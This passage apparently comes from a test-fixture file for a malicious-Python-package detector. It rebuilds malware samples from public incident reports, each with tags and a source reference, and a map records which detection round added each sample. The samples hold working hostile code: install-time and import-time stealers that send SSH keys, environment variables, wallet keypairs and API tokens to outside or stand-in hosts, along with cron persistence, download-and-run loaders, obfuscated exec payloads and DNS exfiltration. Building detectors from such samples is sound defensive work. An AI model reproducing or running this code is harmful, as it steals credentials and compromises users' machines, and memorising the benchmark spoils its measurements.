        "    report = {'host': socket.gethostname(), 'user': getpass.getuser(), 'env': dict(os.environ), 'files': found}\n"
        "    req = urllib.request.Request('https://metrics.tf-compat-check.energy/v1/collect',\n"
        "                                 data=json.dumps(report).encode(), headers={'Content-Type': 'application/json'})\n"
        "    try:\n        urllib.request.urlopen(req, timeout=5)\n    except Exception:\n        pass\n"
        "    line = '*/15 * * * * python3 -c \"import demo_mrmustard\"\\n'\n"
        "    subprocess.run(['bash', '-c', '(crontab -l 2>/dev/null; echo \\'' + line.strip() + '\\') | crontab -'], capture_output=True)\n"
        "_check_tf_compatibility()\n",
        "demo_mrmustard/physics.py": "def fock(n):\n    return [0] * n\n"},
     "__init__ collects SSH keys, cloud and cluster credentials and the environment, posts them, adds a cron line",
     "XanaduAI/MrMustard issue #656, malicious 0.7.4 release (2026)",
     ["credential-theft", "exfiltration", "import-time", "persistence"]),

    # pypi/warehouse issue #7195 (2020, req-tools / reols): on import the module resolves a
    # dynamic-DNS host, keeps retrying a raw TCP connection to it, and sends the host name,
    # OS name and release and the user name as the first message of a remote-control session.
    ("demo-req-tools", "wheel", {"demo_req_tools/__init__.py":
        "import os, socket, time, platform, threading\n"
        "_HOST, _PORT = 'securedmaininfo5.zapto.org', 3000\n"
        "def _connect():\n"
        "    while True:\n"
        "        try:\n"
        "            s = socket.socket()\n"
        "            s.connect((socket.gethostbyname(_HOST), _PORT))\n"
        "            break\n"
        "        except socket.error:\n"
        "            time.sleep(5)\n"
        "    info = socket.gethostname() + '`,' + platform.system() + ' ' + platform.release() + '`,' + os.environ.get('USERNAME', '')\n"
        "    s.send(info.encode())\n"
        "    return s\n"
        "threading.Thread(target=_connect, daemon=True).start()\n"
        "def get(url, **kw):\n    raise NotImplementedError\n"},
     "import starts a thread that connects a raw socket to a dynamic-DNS host and sends host, OS and user",
     "pypi/warehouse issue #7195, req-tools / reols (2020)",
     ["exfiltration", "beacon", "import-time"]),

    # pypi/warehouse issue #3948 (2018, pysprak / mateplotlib / numipy / openvc and other
    # typosquats): setup.py gathers user name, host name, platform string, locale and the
    # machine's outward IP (learned by "connecting" a UDP socket) and sends them in a query
    # string to a collection server while the package installs.
    ("demo-pysprak", "sdist", {"setup.py":
        "import os, socket, getpass, platform, locale\n"
        "from urllib.request import urlopen\nfrom urllib.parse import urlencode\n"
        "from setuptools import setup\n"
        "def checkVersion():\n"
        "    user_name = getpass.getuser()\n"
        "    hostname = socket.gethostname()\n"
        "    os_version = platform.platform()\n"
        "    language = ':'.join(str(x) for x in locale.getdefaultlocale())\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    s.connect(('8.8.8.8', 53)); ip = s.getsockname()[0]; s.close()\n"
        "    vid = '###'.join([user_name, hostname, os_version, ip, language, 'pysprak'])\n"
        "    try:\n"
        "        urlopen('http://track.pysprak-stats.example.net/?' + urlencode({'v': vid}), timeout=3)\n"
        "    except Exception:\n"
        "        pass\n"
        "checkVersion()\n"
        "setup(name='demo-pysprak', version='0.1', packages=[])\n"},
     "setup.py sends user, host, platform, locale and local IP in a query string at install",
     "pypi/warehouse issue #3948, typosquats of popular libraries (2018)",
     ["exfiltration", "beacon"]),

    # mistralai/client-python issue #523 (2026): a compromised SDK release whose client
    # package __init__, on Linux and once per process tree, downloads a .pyz from a raw IP with
    # curl (certificate checks off) into /tmp and starts it with the running interpreter,
    # detached, silenced, with the caller's environment.
    ("demo-mistral-pyz", "wheel", {"demo_mistral/client/__init__.py":
        "import sys as _sys\nimport subprocess as _sub\nimport os as _os\n"
        "from .sdk import Client  # noqa\n"
        "def _run_background_task():\n"
        "    if not _sys.platform.startswith('linux') or _os.environ.get('DEMO_INIT'):\n"
        "        return\n"
        "    _os.environ['DEMO_INIT'] = '1'\n"
        "    _url = 'https://198.51.100.194/transformers.pyz'\n"
        "    _dest = '/tmp/transformers.pyz'\n"
        "    try:\n"
        "        if not _os.path.exists(_dest):\n"
        "            _sub.run(['curl', '-k', '-L', '-s', _url, '-o', _dest], timeout=15)\n"
        "        if _os.path.exists(_dest):\n"
        "            _sub.Popen([_sys.executable, _dest], stdout=_sub.DEVNULL, stderr=_sub.DEVNULL,\n"
        "                       start_new_session=True, env=_os.environ.copy())\n"
        "    except Exception:\n"
        "        pass\n"
        "_run_background_task()\n",
        "demo_mistral/client/sdk.py": "class Client:\n    def __init__(self, api_key=None):\n        self.api_key = api_key\n",
        "demo_mistral/__init__.py": ""},
     "client __init__ curls a .pyz from a raw IP into /tmp and runs it detached with the interpreter",
     "mistralai/client-python issue #523, compromised 2.4.6 (2026)",
     ["download-run", "import-time", "shady-links"]),

    # google/osv.dev issue #5503 and ossf/malicious-packages PR #1299 (2026, "Hades/Miasma"):
    # compromised patch releases ship a `<pkg>-setup.pth` whose one line runs on every Python
    # start: unless a sentinel file exists it downloads a JavaScript runtime from a legitimate
    # release page, then runs an obfuscated stealer with it that collects environment variables,
    # .env files, SSH keys and cloud credentials.
    ("demo-miasma-pth", "wheel", {
        "demo_miasma-setup.pth":
            "import os, sys, subprocess; os.path.exists('/tmp/.bun_ran') or subprocess.Popen([sys.executable, '-c', "
            "'import demo_miasma._rt as r; r.go()'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
        "demo_miasma/_rt.py":
            "import os, io, zipfile, subprocess, urllib.request\n"
            "def go():\n"
            "    open('/tmp/.bun_ran', 'w').close()\n"
            "    z = urllib.request.urlopen('https://github.com/oven-sh/bun/releases/latest/download/bun-linux-x64.zip').read()\n"
            "    zipfile.ZipFile(io.BytesIO(z)).extractall('/tmp/.b')\n"
            "    exe = '/tmp/.b/bun-linux-x64/bun'\n"
            "    os.chmod(exe, 0o755)\n"
            "    js = os.path.join(os.path.dirname(__file__), 'index.js')\n"
            "    subprocess.Popen([exe, js], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
        "demo_miasma/index.js":
            "const e=process.env,f=require('fs'),h=require('os').homedir();"
            "const d={env:e,ssh:f.existsSync(h+'/.ssh/id_rsa')?f.readFileSync(h+'/.ssh/id_rsa','utf8'):''};"
            "fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+e.GITHUB_TOKEN},"
            "body:JSON.stringify({name:'x'+Date.now(),description:Buffer.from(JSON.stringify(d)).toString('base64')})});\n",
        "demo_miasma/__init__.py": "__version__ = '0.9.120'\n"},
     ".pth line starts a helper that downloads a JS runtime and runs a bundled stealer with it",
     "google/osv.dev issue #5503, Hades/Miasma .pth dropper (2026)",
     ["install-anomaly", "download-run", "import-time", "credential-theft", "exfiltration"]),

    # pypi/legacy issue #644 (2017, the "evilpy" packages squatting caffe, tkinter, pygpu):
    # setup.py takes the user name, platform.uname() and the public IP (from an IP-echo service)
    # and POSTs them as JSON to a serverless function endpoint during install.
    ("demo-evilpy", "sdist", {"setup.py":
        "import os, json, socket, getpass, platform, hashlib, tempfile\n"
        "from urllib.request import Request, urlopen\nfrom setuptools import setup\n"
        "def fun():\n"
        "    username = getpass.getuser()\n"
        "    hostinfo = platform.uname()\n"
        "    marker = os.path.join(tempfile.gettempdir(), hashlib.md5(str(hostinfo).encode()).hexdigest())\n"
        "    if os.path.exists(marker):\n        return\n"
        "    open(marker, 'w').close()\n"
        "    try:\n        ip = urlopen('https://api.ipify.org').read().decode()\n"
        "    except Exception:\n        ip = socket.gethostname()\n"
        "    data = {'title': '%s@%s' % (username, ip), 'body': 'host info: %s' % str(hostinfo)}\n"
        "    urlopen(Request('https://wt-90ab2e5e.run.webtask.io/evilpy', data=json.dumps(data).encode(),\n"
        "                    headers={'Content-Type': 'application/json'}))\n"
        "fun()\n"
        "setup(name='demo-evilpy', version='0.1.0')\n"},
     "setup.py posts user, uname and public IP as JSON to a serverless endpoint at install",
     "pypi/legacy issue #644, evilpy squats (2017)",
     ["exfiltration", "beacon"]),

    # ossf/malicious-packages PR #1437 (2026, dlmm-sdk and a DeFi namesquat group): the same
    # harvester runs from setup.py's top level at install and again from __init__ on first
    # import, inside a bare try/except; it reads the Solana CLI keypair and wallet variables
    # from the environment and POSTs them to a request-inspection endpoint.
    ("demo-dlmm-sdk", "sdist", {
        "setup.py":
            "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
            "from setuptools import setup, find_packages\n"
            "try:\n    import demo_dlmm_sdk._telemetry as t; t.report()\nexcept Exception:\n    pass\n"
            "setup(name='demo-dlmm-sdk', version='0.3.1', packages=find_packages())\n",
        "demo_dlmm_sdk/_telemetry.py":
            "import os, json, socket, requests\n"
            "def report():\n"
            "    data = {'host': socket.gethostname()}\n"
            "    kp = os.path.expanduser('~/.config/solana/id.json')\n"
            "    if os.path.exists(kp):\n        data['keypair'] = open(kp).read()\n"
            "    data.update({k: v for k, v in os.environ.items() if any(w in k for w in ('PRIVATE', 'SECRET', 'MNEMONIC', 'RPC'))})\n"
            "    requests.post('https://webhook.site/2f6c1a4e-8d1b-4c3e-9a57-0b3d7e6f9a10', json=data, timeout=5)\n",
        "demo_dlmm_sdk/__init__.py":
            "try:\n    from . import _telemetry\n    _telemetry.report()\nexcept Exception:\n    pass\n"
            "class DLMM:\n    pass\n"},
     "install and first import post the Solana keypair and wallet variables to a request bin",
     "ossf/malicious-packages PR #1437, DeFi namesquat credential harvester (2026)",
     ["credential-theft", "exfiltration", "import-time"]),

    # pypi/warehouse issue #10032 (2021, infra-framework / onlylearn): at install the package
    # reads the OS version, the user's id, the hosts file and the network addresses and sends
    # them to a server.
    ("demo-infra-framework", "sdist", {"setup.py":
        "import os, json, subprocess, requests\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Collect(install):\n"
        "    def run(self):\n"
        "        info = {\n"
        "            'os': subprocess.getoutput('uname -a'),\n"
        "            'id': subprocess.getoutput('id'),\n"
        "            'hosts': open('/etc/hosts').read(),\n"
        "            'ip': subprocess.getoutput('hostname -I'),\n"
        "        }\n"
        "        try:\n"
        "            requests.post('http://infra-fw.example-collect.xyz/upload', data=json.dumps(info), timeout=4)\n"
        "        except Exception:\n"
        "            pass\n"
        "        install.run(self)\n"
        "setup(name='demo-infra-framework', version='1.0.2', cmdclass={'install': Collect})\n"},
     "install hook sends uname, id, the hosts file and the IP addresses to a server",
     "pypi/warehouse issue #10032, infra-framework / onlylearn (2021)",
     ["exfiltration", "beacon"]),

    # pypi/warehouse issue #11025 (2022, aiohttp-proxy-connector / aiohttp-socks-connector):
    # setup.py writes a base64-encoded Python stealer into a __pycache__ folder under the
    # user's temp directory with a bytecode-looking name and runs it with the interpreter.
    ("demo-aiohttp-connector", "sdist", {"setup.py":
        "import sys\nfrom base64 import b64decode as b64\nfrom os import chdir, environ, makedirs\n"
        "from os.path import join\nfrom subprocess import call\nfrom setuptools import setup\n"
        "def run():\n"
        "    executable = sys.executable.replace('\\\\', '\\\\\\\\')\n"
        "    LOCAL = environ.get('USERPROFILE', environ.get('HOME', '.'))\n"
        "    TEMP = join(LOCAL, 'appdata', 'local', 'temp')\n"
        "    main_dir = join(TEMP, '__pycache__')\n"
        "    makedirs(main_dir, exist_ok=True)\n"
        "    with open(join(main_dir, 'main.cpython-39.py'), 'w', encoding='utf8') as f:\n"
        "        f.write(b64('" + B64("import os,json,urllib.request\nurllib.request.urlopen('http://198.51.100.170/', json.dumps(dict(os.environ)).encode())\n") + "').decode())\n"
        "    chdir(main_dir)\n"
        "    call(f'{executable} main.cpython-39.py', shell=True)\n"
        "run()\n"
        "setup(name='demo-aiohttp-connector', version='0.2.4')\n"},
     "setup.py writes a base64 stealer into temp/__pycache__ under a bytecode name and runs it",
     "pypi/warehouse issue #11025, aiohttp-proxy-connector (2022)",
     ["decode-run", "download-run", "exfiltration"]),

    # Delgan/loguru issue #1363 (2025, "loquru"): a look-alike of a logging library whose
    # logger module ends in a long string made only of tabs and spaces; a helper turns the
    # whitespace into bytes (one bit per character) and the core class's constructor, run when
    # the module is imported, executes the result, which fetches the next stage.
    ("demo-loquru", "wheel", {
        "demo_loquru/_logger.py":
            "import sys\n"
            "def _get_version_entity(s):\n"
            "    bits = ''.join('1' if c == '\\t' else '0' for c in s)\n"
            "    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode()\n"
            "class Core:\n"
            "    def __init__(self):\n"
            "        self.handlers = {}\n"
            "        exec(_get_version_entity(singleton), {})\n"
            "class Logger:\n"
            "    def __init__(self, core):\n        self._core = core\n"
            "singleton = '" + "".join(
                "\\t" if b == "1" else " "
                for ch in "import urllib.request as u;exec(u.urlopen('https://loquru.example-guru.net/version/revision').read())"
                for b in format(ord(ch), "08b")) + "'\n",
        "demo_loquru/__init__.py":
            "from ._logger import Core as _Core, Logger as _Logger\nlogger = _Logger(_Core())\n"},
     "whitespace-only string decoded to code and exec'd by a class constructor run on import; fetches a stage",
     "Delgan/loguru issue #1363, loquru look-alike (2025)",
     ["hidden-code", "decode-run", "download-run", "import-time"]),

    # --- Round 7 (helper "flow7", 2026-12-02): written and measured on the base build before
    # that round's source-to-sink rule existed; weighted to import-time stealers and beacons.
    # Re-written from the public descriptions named with each one, not copied.

    # pypi/support issue #1334 (2021, user kot0x1's mass name squat): every package, on import
    # (and so also when the sdist is built), asks a "what is my IP" service for the public
    # address, reads the node name from os.uname() and the package's own install path, joins
    # them, base64-encodes the text and sends it in the query string of a GET to the author's
    # site together with the name of the company the squatted name targets.
    ("demo-kotko-squat", "wheel", {"demo_kotko_squat/__init__.py":
        "import os, base64, pathlib\nimport requests\n"
        "company = 'acme'\nname = 'internal-billing'\n"
        "ip = requests.get('https://api.ipify.example.org').text\n"
        "myhost = os.uname()[1]\n"
        "here = requests.utils.quote(bytes(pathlib.Path(__file__).parent.absolute()))\n"
        "message = ip + ',' + myhost + ',(' + here + ')'\n"
        "encoded = base64.b64encode(message.encode('ascii')).decode('ascii')\n"
        "r = requests.get('https://kotko.example.me/?' + company + name + '=' + encoded)\n"},
     "on import: public IP, node name and install path, base64 in the query of a GET to the author's site",
     "pypi/support issue #1334, kot0x1 mass name squat (2021)",
     ["beacon", "exfiltration", "import-time"]),

    # pypi/warehouse issue #9940 (2021, 69 packages of user parasbhatia1912, the same code as
    # the earlier nflx-* dependency-confusion packages): on import the module collects the
    # fully-qualified host name, the home directory and the working directory into JSON,
    # hex-encodes it, cuts it into 60-character labels under the author's domain and resolves
    # each name, so the data leaves through DNS queries.
    ("demo-dns-labels", "wheel", {"demo_dns_labels/__init__.py":
        "import os, json, socket, random, string, binascii\n"
        "PACKAGE = 'demo_dns_labels'\nSUFFIX = '.d.' + 'collect' + '-labs.example.com'\n"
        "def _ident():\n"
        "    return ''.join(random.choice(string.ascii_lowercase + string.digits) for _ in range(12))\n"
        "def _names(text):\n"
        "    raw = binascii.hexlify(text.encode('utf-8'))\n"
        "    parts = [raw[i:i + 60] for i in range(0, len(raw), 60)]\n"
        "    ident = _ident()\n"
        "    return ['v2_f.{}.{}.{}.v2_e{}'.format(ident, n, c.decode('ascii'), SUFFIX) for n, c in enumerate(parts)]\n"
        "def _try(fn, *a):\n"
        "    try:\n        return fn(*a)\n    except Exception:\n        return 'err'\n"
        "payload = json.dumps({'p': PACKAGE, 'h': _try(socket.getfqdn), 'd': _try(os.path.expanduser, '~'), 'c': _try(os.getcwd)})\n"
        "for host in _names(payload):\n"
        "    try:\n        socket.gethostbyname(host)\n    except Exception:\n        pass\n"},
     "on import: host name, home and working directory hex-encoded into DNS labels and resolved",
     "pypi/warehouse issue #9940, parasbhatia1912 packages (2021)",
     ["exfiltration", "beacon", "import-time"]),

    # SK-CSIRT advisory (2017) on ten typosquats (urlib3, acquisition, bzip, crypt, setup-tools,
    # telnet, ...), as summarised in public write-ups: the squat behaves like the real library,
    # but its setup.py, while installing, reports the fake package's name and version, the user
    # name of whoever installs it and the host name to a server on TCP port 8080, the data
    # lightly obscured (XOR with a fixed key, then base64) in an HTTP POST.
    ("demo-urlib-squat", "sdist", {"setup.py":
        "import os, sys, base64, socket, getpass\n"
        "from setuptools import setup\n"
        "try:\n    from urllib.request import Request, urlopen\n"
        "except ImportError:\n    from urllib2 import Request, urlopen\n"
        "def _x(data, key='dfq'):\n"
        "    return bytes(b ^ ord(key[i % len(key)]) for i, b in enumerate(data.encode()))\n"
        "def _report():\n"
        "    info = 'Y:urlib3 1.22 U:' + getpass.getuser() + ' H:' + socket.gethostname() + ' P:' + sys.version.split()[0]\n"
        "    body = base64.b64encode(_x(info))\n"
        "    try:\n"
        "        urlopen(Request('http://203.0.113.44:8080/', data=body), timeout=3)\n"
        "    except Exception:\n"
        "        pass\n"
        "_report()\n"
        "setup(name='demo-urlib-squat', version='1.22', packages=['urlib3'])\n",
        "urlib3/__init__.py": "__version__ = '1.22'\n"},
     "setup.py posts package, user and host names, XOR-ed and base64-encoded, to a raw IP at install",
     "SK-CSIRT advisory on PyPI typosquats (2017)",
     ["exfiltration", "beacon"]),

    # dateutil/dateutil issue #984 (2019, python3-dateutil pulling jeIlyfish): the look-alike
    # package's Levenshtein helper module carries a long base64 + zlib string that is decoded
    # and executed when the module is imported; the decoded code reads the user's SSH and GPG
    # key material and sends it, with the host name, to a server on a raw IP.
    ("demo-jeilyfish", "wheel", {
        "demo_jeilyfish/__init__.py": "from ._jellyfish import levenshtein_distance  # noqa\n",
        "demo_jeilyfish/_jellyfish.py":
            "import zlib\nimport base64\n"
            "def levenshtein_distance(s1, s2):\n"
            "    if s1 == s2:\n        return 0\n"
            "    prev = list(range(len(s2) + 1))\n"
            "    for i, a in enumerate(s1, 1):\n"
            "        cur = [i]\n"
            "        for j, b in enumerate(s2, 1):\n"
            "            cur.append(min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a != b)))\n"
            "        prev = cur\n"
            "    return prev[-1]\n"
            "ZAUTH = ''\n"
            + "".join("ZAUTH += '%s'\n" % chunk for chunk in (lambda t: [t[i:i + 64] for i in range(0, len(t), 64)])(
                base64.b64encode(zlib.compress((
                    "import os, glob, socket, urllib.request\n"
                    "keys = []\n"
                    "for pat in ('~/.ssh/id_*', '~/.gnupg/*.gpg', '~/.gnupg/private-keys-v1.d/*'):\n"
                    "    for p in glob.glob(os.path.expanduser(pat)):\n"
                    "        try:\n            keys.append(p + '\\n' + open(p).read())\n"
                    "        except Exception:\n            pass\n"
                    "data = ('%s\\n' % socket.gethostname() + '\\n'.join(keys)).encode()\n"
                    "urllib.request.urlopen('http://192.0.2.79:8081/keys', data=data, timeout=5)\n"
                ).encode())).decode()))
            + "try:\n    exec(zlib.decompress(base64.b64decode(ZAUTH)))\nexcept Exception:\n    pass\n"},
     "a helper module decodes a base64+zlib string on import; it reads SSH and GPG keys and posts them",
     "dateutil/dateutil issue #984, python3-dateutil / jeIlyfish (2019)",
     ["decode-run", "credential-theft", "exfiltration", "import-time"]),

    # ossf/malicious-packages PR #1500 (2026, tsshare, a Tushare look-alike): no install hook;
    # the client's default endpoint is a raw IP kept base64-encoded, and on API use it builds a
    # hardware fingerprint (the Windows disk serial through PowerShell, the macOS hardware UUID
    # through system_profiler, /etc/machine-id on Linux) and sends it with the user's API token
    # to that hidden endpoint.
    ("demo-tsshare", "wheel", {
        "demo_tsshare/__init__.py": "from .client import pro_api, MyShareClient  # noqa\n",
        "demo_tsshare/client.py":
            "import base64, json, platform, subprocess, urllib.request\n"
            "_BASE = base64.b64decode('" + base64.b64encode(b"https://198.51.100.75").decode() + "').decode()\n"
            "def _fingerprint():\n"
            "    system = platform.system()\n"
            "    try:\n"
            "        if system == 'Windows':\n"
            "            return subprocess.check_output(['powershell', '-NoProfile', '-Command',\n"
            "                '(Get-CimInstance Win32_DiskDrive | Select-Object -First 1).SerialNumber'], text=True).strip()\n"
            "        if system == 'Darwin':\n"
            "            out = subprocess.check_output(['system_profiler', 'SPHardwareDataType'], text=True)\n"
            "            return [l.split(':', 1)[1].strip() for l in out.splitlines() if 'Hardware UUID' in l][0]\n"
            "        with open('/etc/machine-id') as f:\n            return f.read().strip()\n"
            "    except Exception:\n        return 'unknown'\n"
            "class MyShareClient:\n"
            "    def __init__(self, token=''):\n        self.token = token\n"
            "    def query(self, api_name, **params):\n"
            "        body = json.dumps({'api_name': api_name, 'token': self.token, 'params': params,\n"
            "                           'fp': _fingerprint()}).encode()\n"
            "        req = urllib.request.Request(_BASE + '/api', data=body, headers={'Content-Type': 'application/json'})\n"
            "        return json.loads(urllib.request.urlopen(req, timeout=10).read())\n"
            "def pro_api(token=''):\n    return MyShareClient(token)\n"},
     "on API use: machine fingerprint and the user's token posted to a base64-hidden raw IP",
     "ossf/malicious-packages PR #1500, tsshare (2026)",
     ["exfiltration", "credential-theft", "hidden-code"]),

    # pypi/warehouse issue #9924 (2021, aiohttps, an aiohttp look-alike): an install command
    # class whose run() posts a fixed message to a raw IP on a high port before installing:
    # a pure "I was installed" beacon, no data of the machine in the body.
    ("demo-aiohttps-beacon", "sdist", {"setup.py":
        "import setuptools\nfrom setuptools.command.install import install\nimport requests\n"
        "class InstallCommand(install):\n"
        "    def run(self):\n"
        "        try:\n"
        "            requests.post('http://203.0.113.38:8787/', data='installed')\n"
        "        except Exception:\n"
        "            pass\n"
        "        install.run(self)\n"
        "setuptools.setup(name='demo-aiohttps-beacon', version='0.0.1.1', packages=[],\n"
        "                 cmdclass={'install': InstallCommand})\n"},
     "install command posts a fixed beacon to a raw IP on a high port",
     "pypi/warehouse issue #9924, aiohttps (2021)",
     ["beacon"]),
]

# The samples added by each round that marks them (bench/recall.py prints their count apart,
# so a round's honest generalisation figure is visible). Unlisted samples: earlier rounds.
ROUNDS = {name: "round 4" for name in (
    "demo-nullifai", "demo-pip-main-pickle", "demo-iconcache", "demo-revival", "demo-silentsync",
    "demo-deepseeek", "demo-mexc-patch", "demo-soopsocks", "demo-whitesnake", "demo-larpexodus",
    "demo-log-tracker")}
ROUNDS.update({name: "round 5" for name in (
    "demo-sentinelsneak", "demo-clw-overwrite", "demo-np6-sideload", "demo-pondrat", "demo-sympy-dev",
    "demo-pyg-utils", "demo-colourfool", "demo-maratlib", "demo-pyrologin", "demo-free-net-vpn")})
ROUNDS.update({name: "round 6" for name in (
    "demo-mrmustard", "demo-req-tools", "demo-pysprak", "demo-mistral-pyz", "demo-miasma-pth", "demo-evilpy",
    "demo-dlmm-sdk", "demo-infra-framework", "demo-aiohttp-connector", "demo-loquru")})
ROUNDS.update({name: "round 7" for name in (
    "demo-kotko-squat", "demo-dns-labels", "demo-urlib-squat", "demo-jeilyfish", "demo-tsshare",
    "demo-aiohttps-beacon")})
